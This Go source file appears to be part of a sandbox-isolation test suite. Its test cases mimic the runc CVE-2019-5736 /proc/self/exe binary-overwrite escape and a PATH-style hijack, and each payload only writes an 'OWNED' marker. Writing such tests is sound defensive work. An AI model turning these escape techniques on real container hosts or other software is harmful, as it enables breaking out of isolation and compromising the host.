package attacks

import (
	"errors"
	"os"
	"path/filepath"

	"golang.org/x/sys/unix"
)

// launcher: changing the program that makes the next box.
func launcher() []Row {
	return []Row{
		{
			name: "overwrite one's own image", source: "runc CVE-2019-5736: /proc/self/exe",
			attack: overwriteImage,
			arena: func(a *Arena) {
				program := filepath.Join(a.Folder("bin"), attackerName)
				if err := copyFile(program, a.role.site.attacker, 0o755); err != nil {
					a.t.Fatal(err)
				}
				a.own(program)
				a.view("ro", program)
				a.Spec.Args[0] = program
				a.RW()
				a.Args(filepath.Join(a.dir, "rw"))
				a.effect = func(Answer) error {
					content := a.Read(program)
					if len(content) < 5 || content[:5] == "OWNED" {
						return nil
					}
					return errors.New("the file is as it was")
				}
			},
			walls: readOnly,
			root:  rootsUID,
		},
		{
			name: "become the caller's next program", source: "mailcap and PATH: a file named like a tool in the workspace",
			attack: func(args []string) error { return os.WriteFile(args[0], []byte("OWNED"), 0o755) },
			arena: func(a *Arena) {
				a.Folder("home")
				tool := a.File("home/tool", "the caller's")
				a.RW()
				a.Args(tool)
				a.changes(tool)
			},
			walls: hostWalls, root: rootsUID,
		},
	}
}

// overwriteImage becomes another program and writes to the one that it was:
// what runs cannot be written to.
func overwriteImage(args []string) error {
	if len(args) > 1 {
		return overwrite(args[1], os.O_TRUNC)
	}
	image, err := os.Readlink("/proc/self/exe")
	if err != nil {
		return err
	}
	other := filepath.Join(args[0], "other")
	if err := copyFile(other, image, 0o755); err != nil {
		return err
	}
	return unix.Exec(other, []string{attackerName, os.Args[1], args[0], image}, nil)
}
